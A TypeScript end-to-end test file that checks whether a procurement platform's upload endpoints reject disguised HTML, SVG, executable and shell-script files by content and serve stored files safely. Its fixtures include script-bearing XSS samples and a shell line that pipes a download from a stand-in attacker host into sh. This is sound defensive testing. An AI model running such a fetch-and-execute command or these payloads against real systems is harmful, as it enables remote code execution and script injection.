import { createHash, randomUUID } from 'node:crypto'
import { beforeAll, describe, expect, it } from 'vitest'
import { baseUrl, e2eEnabled } from './browser.ts'
import {
  createOffering,
  directContract,
  ownAgencyId,
  profileFields,
  publishProject,
  tinyPng,
} from './security-world.ts'
import { type Account, type FormFile, signUp, type WebClient } from './web-client.ts'

const ANY_FILE = '仅支持 PDF、JPG、PNG 文件'
const IMAGES = '仅支持 JPG、PNG 图片'
const PDF_ONLY = '仅支持 PDF 文件'

const text = (s: string) => new Uint8Array(Buffer.from(s))
const join = (...parts: (string | number[])[]) =>
  new Uint8Array(Buffer.concat(parts.map((p) => Buffer.from(p as string))))

/**
 * What must never be stored, whatever its name and declared type says: the upload check
 * reads the first bytes. `tag` makes each copy unique, so a file stored by one endpoint is
 * not mistaken for another's.
 */
const hostile: [string, (tag: string) => FormFile][] = [
  [
    'an HTML page',
    (tag) => ({
      name: 'report.html',
      type: 'text/html',
      bytes: text(`<!doctype html><html><body><script>alert(1)</script>${tag}</body></html>`),
    }),
  ],
  [
    'HTML named .pdf',
    (tag) => ({
      name: '报告.pdf',
      type: 'application/pdf',
      bytes: text(`<html><body onload=alert(1)>${tag}`),
    }),
  ],
  [
    'an SVG with a script',
    (tag) => ({
      name: 'logo.svg',
      type: 'image/svg+xml',
      bytes: text(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!--${tag}--></svg>`),
    }),
  ],
  [
    'an SVG named .png',
    (tag) => ({
      name: 'logo.png',
      type: 'image/png',
      bytes: text(
        `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><!--${tag}--></svg>`,
      ),
    }),
  ],
  [
    'an ELF executable named .pdf',
    (tag) => ({
      name: 'scan.pdf',
      type: 'application/pdf',
      bytes: join([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00], tag),
    }),
  ],
  [
    'a Windows executable (MZ) named .pdf',
    (tag) => ({
      name: 'invoice.pdf',
      type: 'application/pdf',
      bytes: join('MZ', [0x90, 0x00, 0x03, 0x00], 'This program cannot be run in DOS mode.', tag),
    }),
  ],
  [
    'a shell script named .pdf',
    (tag) => ({
      name: 'report.pdf',
      type: 'application/pdf',
      bytes: text(`#!/bin/sh\ncurl -s http://evil.example/x | sh # ${tag}\n`),
    }),
  ],
]

const pdf = (tag: string): FormFile => ({
  name: '成果.pdf',
  type: 'application/pdf',
  bytes: text(`%PDF-1.4\n1 0 obj <<>> endobj\n% ${tag}\ntrailer <<>>\n%%EOF\n`),
})
const png = (tag: string): FormFile => ({
  name: 'logo.png',
  type: 'image/png',
  bytes: join([...tinyPng], tag),
})

const uploadId = (file: FormFile) => createHash('sha256').update(file.bytes).digest('hex')

interface Endpoint {
  name: string
  client: () => WebClient
  path: () => string
  field: string
  /** The rest of the form, valid, so that the file is what is judged. */
  form: () => Record<string, string>
  refusal: string
  good: (tag: string) => FormFile
}

describe.skipIf(!e2eEnabled)('uploads: every endpoint refuses HTML, SVG and executables', () => {
  let agency: Account
  let enterprise: Account
  let agencyId: string
  let tender: string
  let direct: { project: string; contract: string }

  beforeAll(async () => {
    ;[agency, enterprise] = await Promise.all([
      signUp(baseUrl!, 'agency'),
      signUp(baseUrl!, 'enterprise'),
    ])
    ;[agencyId] = await Promise.all([ownAgencyId(agency.client), createOffering(agency.client)])
    ;[tender, direct] = await Promise.all([
      publishProject(enterprise.client, { funding: 'own' }),
      directContract(enterprise.client, agency.client, agencyId),
    ])
  })

  const endpoints: Endpoint[] = [
    {
      name: 'profile logo',
      client: () => agency.client,
      path: () => '/my/profile',
      field: 'logo',
      form: () => profileFields(agency),
      refusal: IMAGES,
      good: png,
    },
    {
      name: 'qualification scan',
      client: () => agency.client,
      path: () => '/my/qualifications',
      field: 'scan',
      form: () => ({
        type: '其他',
        otherType: '环境监测资质',
        number: `HJ-${randomUUID().slice(0, 8)}`,
        issuer: '河南省生态环境厅',
        validFrom: '2024-01-01',
      }),
      refusal: ANY_FILE,
      good: pdf,
    },
    {
      name: 'bid proposal',
      client: () => agency.client,
      path: () => `/projects/${tender}/bid`,
      field: 'proposalFile',
      form: () => ({
        intent: 'bid',
        priceMode: 'amount',
        price: '40000',
        timeLimitDays: '15',
        submissionKey: randomUUID(),
      }),
      refusal: PDF_ONLY,
      good: pdf,
    },
    {
      name: 'credit appeal evidence',
      client: () => agency.client,
      path: () => `/agencies/${agencyId}/credit`,
      field: 'file',
      form: () => ({
        intent: 'appeal',
        recordId: randomUUID(),
        grounds: '认定所依据的时限计算有误，请求撤销该记录。',
      }),
      refusal: ANY_FILE,
      good: pdf,
    },
    {
      name: 'contract delivery',
      client: () => agency.client,
      path: () => `/contracts/${direct.contract}?index`,
      field: 'file1',
      form: () => ({ intent: 'deliver', note: '环境影响报告表（报批稿），请验收。' }),
      refusal: ANY_FILE,
      good: pdf,
    },
    {
      name: 'objection evidence',
      client: () => agency.client,
      path: () => `/projects/${direct.project}/result`,
      field: 'file',
      form: () => ({ intent: 'file', grounds: '中选机构的报价明显低于成本，请复核。' }),
      refusal: ANY_FILE,
      good: pdf,
    },
    {
      name: 'complaint evidence',
      client: () => enterprise.client,
      path: () => '/complaints/new',
      field: 'file',
      form: () => ({
        targetType: 'agency',
        targetId: agencyId,
        subject: '未按约定时限提交成果',
        grounds: '该机构承诺二十个工作日提交报告，逾期仍未提交。',
      }),
      refusal: ANY_FILE,
      good: pdf,
    },
    {
      name: 'payment voucher',
      client: () => enterprise.client,
      path: () => `/contracts/${direct.contract}/payment`,
      field: 'voucher',
      form: () => ({
        intent: 'offline',
        target: 'whole',
        voucherNumber: 'HX20261126001',
        paidOn: '2026-01-05',
        amount: '36000',
      }),
      refusal: ANY_FILE,
      good: pdf,
    },
  ]

  it.each(endpoints.map((e) => [e.name, e] as const))(
    '%s: refused by content, nothing stored; a real file of its kind gets through',
    async (name, endpoint) => {
      const problems: string[] = []
      for (const [what, make] of hostile) {
        const file = make(`${name} ${randomUUID()}`)
        const response = await endpoint
          .client()
          .post(endpoint.path(), { ...endpoint.form(), [endpoint.field]: file })
        const body = await response.text()
        if (response.status !== 400 || !body.includes(endpoint.refusal))
          problems.push(`${what}: answered ${response.status} without "${endpoint.refusal}"`)
        const stored = await fetch(`${baseUrl}/uploads/${uploadId(file)}`)
        if (stored.status !== 404) problems.push(`${what}: stored and served (${stored.status})`)
      }
      expect(problems, problems.join('\n')).toEqual([])

      // The same form with a file of the accepted kind passes the check (so the refusals
      // above came from the content, not from something else on the form).
      const good = endpoint.good(`${name} ${randomUUID()}`)
      const response = await endpoint
        .client()
        .post(endpoint.path(), { ...endpoint.form(), [endpoint.field]: good })
      expect(await response.text()).not.toContain(endpoint.refusal)
      // As its sender reads it: a sealed bid's proposal is no one else's before the opening.
      const served = await endpoint.client().get(`/uploads/${uploadId(good)}`)
      expect(served.status).toBe(200)
      expect(served.headers.get('content-type')).toBe(good.type)
      if (name === 'bid proposal')
        expect((await fetch(`${baseUrl}/uploads/${uploadId(good)}`)).status).toBe(404)
    },
  )

  it('serves a stored file as what it is, never as a page', async () => {
    const file = pdf(randomUUID())
    await agency.client.post('/my/qualifications', {
      type: '其他',
      otherType: '测绘资质',
      number: `CH-${randomUUID().slice(0, 8)}`,
      issuer: '河南省自然资源厅',
      validFrom: '2024-01-01',
      scan: { ...file, name: 'scan.html', type: 'text/html' },
    })
    const served = await fetch(`${baseUrl}/uploads/${uploadId(file)}`)
    expect(served.status).toBe(200)
    expect(served.headers.get('content-type')).toBe('application/pdf')
    expect(served.headers.get('content-disposition')).toMatch(
      /^attachment; filename="scan\.html\.pdf"/,
    )
    // Exactly the upload's own policy, not the pages' policy beside it.
    expect(served.headers.get('content-security-policy')).toBe(
      "default-src 'none'; frame-ancestors 'none'; sandbox",
    )
  })
})
